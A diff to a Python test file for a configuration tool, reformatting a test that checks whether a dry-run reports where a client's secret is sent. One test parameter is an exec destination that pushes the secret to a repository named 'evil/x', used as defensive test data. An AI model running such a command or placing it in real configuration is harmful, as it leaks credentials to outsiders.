@@ -82,7 +82,9 @@ def test_a_reviewed_plan_gives_nothing_to_what_someone_registers_meanwhile(
     assert (done.code, site["error"]["error"]["code"], azure.writes()) == (2, "plan-changed", [])
 
 
-@pytest.mark.parametrize("place", ["exec:./tools/gh secret set A --repo evil/x", f"keyvault:{seed.VAULT}", "file:elsewhere/"])
+@pytest.mark.parametrize(
+    "place", ["exec:./tools/gh secret set A --repo evil/x", f"keyvault:{seed.VAULT}", "file:elsewhere/"]
+)
 def test_where_a_secret_goes_is_reviewed_whether_or_not_one_is_made_now(mct: Program, file: Path, place: str) -> None:
     client = "[sites.contosolearn]\n[[sites.contosolearn.clients]]\nname = 'A'\n"
     file.write_text(client)
@@ -91,7 +93,7 @@ def test_where_a_secret_goes_is_reviewed_whether_or_not_one_is_made_now(mct: Pro
     file.write_text(f"{client}secret-to = '{place}'\n")
     after = mct("apply", "-f", str(file), "--dry-run", "-o", "json").document
     assert before["fingerprint"] != after["fingerprint"]
-    told = f"The secret of 'A' goes to: {place}"
+    told = f"Credentials of 'A' go to: {place}"
     assert told in [note["text"] for note in after["sites"][0]["result"]["notes"]]
     assert told in " ".join(mct("apply", "-f", str(file), "--dry-run").out.split())
     page = mct("apply", "-f", str(file), "--dry-run", "-o", "markdown").out
